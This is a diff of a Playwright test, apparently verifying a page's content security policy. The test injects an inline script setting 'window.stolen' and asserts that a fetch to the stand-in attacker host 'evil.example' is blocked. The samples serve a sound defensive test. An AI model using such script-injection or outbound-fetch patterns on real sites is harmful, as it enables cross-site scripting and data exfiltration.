@@ -41,16 +41,14 @@ def test_a_page_works_without_a_word_of_its_policy_in_the_console(
     assert not any("Error" in each for each in said), said
 
 
-def test_a_script_from_outside_does_not_run(page: Page, server: str) -> None:
-    page.goto(f"{server}/cost?embed=true")
-    settle(page)
-    page.evaluate(
+def test_a_script_from_outside_does_not_run(gpt_3: Page) -> None:
+    gpt_3.evaluate(
         "() => { const script = document.createElement('script');"
         " script.textContent = 'window.stolen = 1'; document.body.append(script); }"
     )
-    assert page.evaluate("() => window.stolen") is None
+    assert gpt_3.evaluate("() => window.stolen") is None
     blocked = "() => fetch('https://evil.example/').then(() => 'sent', () => 'blocked')"
-    assert page.evaluate(blocked) == "blocked"
+    assert gpt_3.evaluate(blocked) == "blocked"
 
 
 @contextlib.contextmanager
